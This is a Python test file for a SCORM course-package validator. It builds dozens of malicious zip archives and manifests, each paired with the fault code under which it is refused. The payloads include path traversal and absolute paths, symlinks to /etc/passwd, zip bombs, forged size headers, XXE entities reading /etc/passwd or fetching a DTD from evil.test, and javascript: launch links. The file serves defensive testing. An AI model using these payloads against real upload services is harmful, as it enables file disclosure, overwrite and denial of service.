"""Every kind of package that must not come in: how it is made, the fault it is refused with, the file it is about."""

import stat
import struct
import zipfile
from collections.abc import Callable
from io import BytesIO

from tests.packages import SCRIPT, manifest_1_2, page, zipped

GOOD: dict[str, str | bytes] = {"imsmanifest.xml": manifest_1_2(), "index.html": page("Kitchen"), "run.js": SCRIPT}
ZEROS = bytes(4 << 20)


def named(name: str) -> bytes:
    """A good package with one more file of this name, written as it stands, by whatever path."""
    return zipped(GOOD | {name: "x"})


def with_manifest(manifest: str | bytes, **more: str | bytes) -> bytes:
    return zipped(GOOD | more | {"imsmanifest.xml": manifest})


def starting(href: str) -> bytes:
    resource = f'<resource identifier="R1" type="webcontent" adlcp:scormtype="sco" href="{href}"/>'
    return with_manifest(manifest_1_2(resources=resource))


def of_mode(mode: int) -> bytes:
    """A file of this Unix kind."""
    return marked(lambda info: setattr(info, "external_attr", (mode | 0o644) << 16))


def marked(change: Callable[[zipfile.ZipInfo], None], content: bytes = b"/etc/passwd") -> bytes:
    held = BytesIO(zipped(GOOD))
    with zipfile.ZipFile(held, "a") as opened:
        info = zipfile.ZipInfo("odd.txt")
        info.create_system = 3
        change(info)
        opened.writestr(info, content)
    return held.getvalue()


def extra(kind: int, data: bytes) -> bytes:
    return marked(lambda info: setattr(info, "extra", struct.pack("<HH", kind, len(data)) + data))


def patched(content: bytes, name: bytes, local: dict[int, bytes], central: dict[int, bytes]) -> bytes:
    """Bytes at these offsets of the local header and of the directory's entry of one file are other ones."""
    held = bytearray(content)
    for mark, length, changes in ((b"PK\x03\x04", 30, local), (b"PK\x01\x02", 46, central)):
        at = held.find(mark)
        while bytes(held[at + length : at + length + len(name)]) != name:
            at = held.index(mark, at + 1)
        for offset, data in changes.items():
            held[at + offset : at + offset + len(data)] = data
    return bytes(held)


def flagged(bits: int) -> bytes:
    data = struct.pack("<H", bits)
    return patched(zipped(GOOD), b"index.html", {6: data}, {8: data})


def lying(size: int) -> bytes:
    data = struct.pack("<I", size)
    return patched(zipped(GOOD), b"index.html", {22: data}, {24: data})


def lying_in_one() -> bytes:
    return patched(zipped(GOOD), b"index.html", {22: struct.pack("<I", 3)}, {})


def one_over_another() -> bytes:
    """Two entries of the directory for the same bytes, as the bombs do that no ratio of one file shows."""
    content = zipped(GOOD | {"index2html": page("Kitchen")})
    first = content.index(b"PK\x03\x04", 4)
    return patched(content, b"index2html", {}, {42: struct.pack("<I", first)})


def broken_bytes() -> bytes:
    held = bytearray(zipped(GOOD, packed=False))
    held[held.index(b"<h1>") + 1] ^= 1
    return bytes(held)


def broken_stream() -> bytes:
    held = bytearray(zipped(GOOD))
    at = held.index(b"index.html") + 10
    held[at : at + 4] = b"\xff\xff\xff\xff"
    return bytes(held)


def utf_8_that_is_none() -> bytes:
    content = named("caf.txt").replace(b"caf.txt", b"caf\xe9txt")
    return patched(content, b"caf\xe9txt", {6: struct.pack("<H", 0x800)}, {8: struct.pack("<H", 0x800)})


def items(depth: int) -> str:
    return manifest_1_2(items="<item><title>a</title>" * depth + "</item>" * depth)


def one_rule_for_many() -> bytes:
    """Rules of some size that a thousand activities name: small in the zip, thousandfold in the menu."""
    said = " ".join(f'a{n}="{"x" * 900}{n}"' for n in range(20))
    shared = f'<sequencingCollection><sequencing ID="s"><sequencingRules {said}/></sequencing></sequencingCollection>'
    items = '<item identifierref="R1"><title>a</title><sequencing IDRef="s"/></item>' * 1500
    return with_manifest(manifest_1_2(items=items).replace("</manifest>", f"{shared}</manifest>"))


def rules_that_ask_all() -> bytes:
    """A hundred rules that each ask 1,900 activities, each of which reads what 25 others have written."""
    rule = '<rollupRule><rollupConditions><rollupCondition condition="completed"/></rollupConditions></rollupRule>'
    maps = "".join(f'<mapInfo targetObjectiveID="{n}"/>' for n in range(25))
    shared = f'<sequencing ID="s"><objectives><primaryObjective>{maps}</primaryObjective></objectives></sequencing>'
    inside = '<item identifierref="R1"><title>a</title><sequencing IDRef="s"/></item>' * 1900
    own = f"<sequencing><rollupRules>{rule * 100}</rollupRules></sequencing>"
    items = f"<item><title>all</title>{own}{inside}</item>"
    end = f"<sequencingCollection>{shared}</sequencingCollection></manifest>"
    return with_manifest(manifest_1_2(items=items).replace("</manifest>", end))


LAUGHS = '<!DOCTYPE m [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><manifest><metadata>&b;</metadata></manifest>'
OUTSIDE = '<!DOCTYPE m [<!ENTITY a SYSTEM "file:///etc/passwd">]><manifest><metadata>&a;</metadata></manifest>'
PARAMETER = '<!DOCTYPE m [<!ENTITY % a SYSTEM "http://evil.test/x.dtd"> %a;]><manifest/>'
CARTRIDGE = "<manifest><metadata><schema>IMS Common Cartridge</schema></metadata></manifest>"

# name → (how it is made, the code of the fault, words of the file that it names)
HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "nothing": (lambda: b"", "not_a_zip", ""),
    "a picture": (lambda: b"\x89PNG\r\n" * 100, "not_a_zip", ""),
    "a zip cut off": (lambda: zipped(GOOD)[:-200], "truncated", ""),
    "a zip cut off in its end": (lambda: zipped(GOOD)[:-10], "truncated", ""),
    "a zip that begins too late": (lambda: zipped(GOOD)[40:], "damaged", ""),
    "an empty zip": (lambda: zipped({}), "no_manifest", ""),
    "traversal": (lambda: named("../evil.html"), "traversal", "../evil.html"),
    "traversal in the middle": (lambda: named("a/../../evil.html"), "traversal", "evil.html"),
    "absolute": (lambda: named("/etc/cron.d/evil"), "absolute", "/etc/cron.d/evil"),
    "a network path": (lambda: named("//server/share"), "absolute", "//server/share"),
    "a drive": (lambda: named("C:evil.html"), "drive", "C:evil.html"),
    "a stream of Windows": (lambda: named("index.html:evil"), "drive", "index.html:evil"),
    "a backslash": (lambda: named("..\\evil.html"), "backslash", "..\\evil.html"),
    "a name of control letters": (lambda: named("evil\x1b[2J.html"), "name_control", "evil"),
    "a name with a zero": (
        lambda: patched(named("evil!.html"), b"evil!.html", {}, {50: b"\0"}),
        "name_control",
        "evil",
    ),
    "a name for printers": (lambda: named("media/AUX.html"), "reserved", "media/AUX.html"),
    "a port": (lambda: named("com1"), "reserved", "com1"),
    "a name that ends in a dot": (lambda: named("media./a.png"), "reserved", "media./a.png"),
    "a long name": (lambda: named("a" * 300), "name_long", "aaa"),
    "a long path": (lambda: named("ab/" * 20 + "a" * 390), "name_long", "ab/"),
    "too many folders": (lambda: named("a/" * 40 + "b"), "too_deep", "a/"),
    "a name in UTF-8 that is none": (utf_8_that_is_none, "name_encoding", ""),
    "a symbolic link": (lambda: of_mode(stat.S_IFLNK), "link", "odd.txt"),
    "a hard link": (lambda: extra(0x000D, bytes(12) + b"/etc/passwd"), "link", "odd.txt"),
    "a link in the old way": (lambda: extra(0x756E, bytes(14) + b"/etc/passwd"), "link", "odd.txt"),
    "a device": (lambda: of_mode(stat.S_IFCHR), "device", "odd.txt"),
    "a pipe": (lambda: of_mode(stat.S_IFIFO), "device", "odd.txt"),
    "a locked file": (lambda: flagged(0x1), "encrypted", "index.html"),
    "a strongly locked file": (lambda: flagged(0x40), "encrypted", "index.html"),
    "another packing": (lambda: marked(lambda info: setattr(info, "compress_type", zipfile.ZIP_LZMA)), "method", "odd"),
    "a bomb": (lambda: zipped(GOOD | {"bomb.bin": ZEROS}), "bomb", "bomb.bin"),
    "a bomb in small files": (lambda: zipped(GOOD | {f"b{n}.bin": ZEROS[: 900 << 10] for n in range(8)}), "bomb", ""),
    "a bomb of one file many times": (one_over_another, "overlap", "index"),
    "a size too small": (lambda: lying(10), "size", "index.html"),
    "a size too large": (lambda: lying(100_000), "size", "index.html"),
    "two sizes": (lying_in_one, "size", "index.html"),
    "a huge size": (lambda: lying(0xFFFFFFF0), "file_too_big", "index.html"),
    "one byte wrong": (broken_bytes, "crc", "index.html"),
    "a broken stream": (broken_stream, "damaged", "index.html"),
    "one name twice": (lambda: patched(named("run.jz"), b"run.jz", {35: b"s"}, {51: b"s"}), "twice", "run.js"),
    "names of two cases": (lambda: named("INDEX.html"), "clash", "INDEX.html"),
    "names of two forms": (lambda: zipped(GOOD | {"caf\u00e9.png": "", "cafe\u0301.png": ""}), "clash", "caf"),
    "a file that is a folder": (lambda: named("index.html/evil.html"), "file_and_folder", "index.html"),
    "a zip bomb inside": (lambda: zipped(GOOD | {"more.zip": zipped({"b": ZEROS})}), "nested", "more.zip"),
    "a zip in a zip inside": (
        lambda: zipped(GOOD | {"a.zip": zipped({"b.zip": zipped({"c": ""})})}),
        "nested",
        "a.zip",
    ),
    "no manifest": (lambda: zipped({"index.html": "x"}), "no_manifest", ""),
    "the package inside another zip": (lambda: zipped({"course.zip": zipped(GOOD)}), "zip_in_zip", ""),
    "a package for xAPI": (lambda: zipped({"tincan.xml": "<a/>", "a.html": ""}), "other_standard", ""),
    "a manifest in a folder among others": (
        lambda: zipped({"a/imsmanifest.xml": manifest_1_2(), "a/index.html": "", "b.html": ""}),
        "misplaced",
        "a/imsmanifest.xml",
    ),
    "two packages": (
        lambda: zipped({"a/imsmanifest.xml": manifest_1_2(), "b/imsmanifest.xml": manifest_1_2()}),
        "misplaced",
        "b/imsmanifest.xml",
    ),
    "an empty manifest": (lambda: with_manifest(""), "not_xml", "imsmanifest.xml"),
    "no XML": (lambda: with_manifest("<manifest><a></manifest>"), "not_xml", "imsmanifest.xml"),
    "bytes that are no XML": (lambda: with_manifest(b"\0\1\2"), "not_xml", "imsmanifest.xml"),
    "another XML": (lambda: with_manifest("<html/>"), "not_a_manifest", "imsmanifest.xml"),
    "a cartridge": (lambda: with_manifest(CARTRIDGE), "other_standard", "imsmanifest.xml"),
    "billion laughs": (lambda: with_manifest(LAUGHS), "entities", "imsmanifest.xml"),
    "a file from outside": (lambda: with_manifest(OUTSIDE), "entities", "imsmanifest.xml"),
    "a definition from outside": (lambda: with_manifest(PARAMETER), "entities", "imsmanifest.xml"),
    "Latin-1 that says UTF-8": (
        lambda: with_manifest(manifest_1_2("Caf\u00e9").encode("latin-1")),
        "encoding",
        "imsmanifest.xml",
    ),
    "UTF-16 cut off": (lambda: with_manifest(manifest_1_2().encode("utf-16")[:-1]), "encoding", "imsmanifest.xml"),
    "an encoding that nobody knows": (
        lambda: with_manifest(manifest_1_2().replace("UTF-8", "x-klingon")),
        "encoding_unknown",
        "imsmanifest.xml",
    ),
    "an encoding that is none": (
        lambda: with_manifest(manifest_1_2().replace("UTF-8", "rot13")),
        "encoding_unknown",
        "imsmanifest.xml",
    ),
    "deep elements": (lambda: with_manifest("<manifest>" + "<a>" * 5000), "nested_too_deep", "imsmanifest.xml"),
    "deep activities": (lambda: with_manifest(items(30)), "items_too_deep", "imsmanifest.xml"),
    "too many activities": (
        lambda: with_manifest(manifest_1_2(items="<item><title>a</title></item>" * 2001)),
        "too_many_items",
        "imsmanifest.xml",
    ),
    "nothing to start": (lambda: with_manifest("<manifest><resources/></manifest>"), "nothing_to_start", "imsmanifest"),
    "an activity without its resource": (
        lambda: with_manifest(manifest_1_2(items='<item identifierref="R9"><title>Gone</title></item>')),
        "dangling",
        "imsmanifest.xml",
    ),
    "a resource that starts nothing": (
        lambda: with_manifest(manifest_1_2(resources='<resource identifier="R1"/>')),
        "no_href",
        "imsmanifest.xml",
    ),
    "a page from the network": (lambda: starting("https://evil.test/a.html"), "leaves", "https://evil.test/a.html"),
    "a page from another host": (lambda: starting("//evil.test/a.html"), "leaves", "//evil.test/a.html"),
    "a script for a page": (lambda: starting("javascript:alert(1)"), "leaves", "javascript:alert(1)"),
    "a page of the server": (lambda: starting("/staff/"), "leaves", "/staff/"),
    "a page above": (lambda: starting("../index.html"), "leaves", "../index.html"),
    "a page above, escaped": (lambda: starting("%2e%2e/%2e%2e/etc/passwd"), "leaves", "%2e%2e"),
    "a network page, escaped": (lambda: starting("https%3A//evil.test/"), "leaves", "https%3A"),
    "a page above by its base": (
        lambda: with_manifest(
            manifest_1_2(resources='<resource identifier="R1" xml:base="../../" href="index.html"/>')
        ),
        "leaves",
        "index.html",
    ),
    "a page with an endless base": (
        lambda: with_manifest(
            manifest_1_2(resources=f'<resource identifier="R1" xml:base="{"./" * 5000}" href="index.html"/>')
        ),
        "absent",
        "index.html",
    ),
    "an endless address": (lambda: starting("./" * 5000 + "index.html"), "absent", "./"),
    "one rule for many activities": (one_rule_for_many, "too_many_rules", "imsmanifest.xml"),
    "rules that ask each other without end": (rules_that_ask_all, "too_many_rules", "imsmanifest.xml"),
    "a page that is not there": (lambda: starting("missing.html"), "absent", "missing.html"),
}
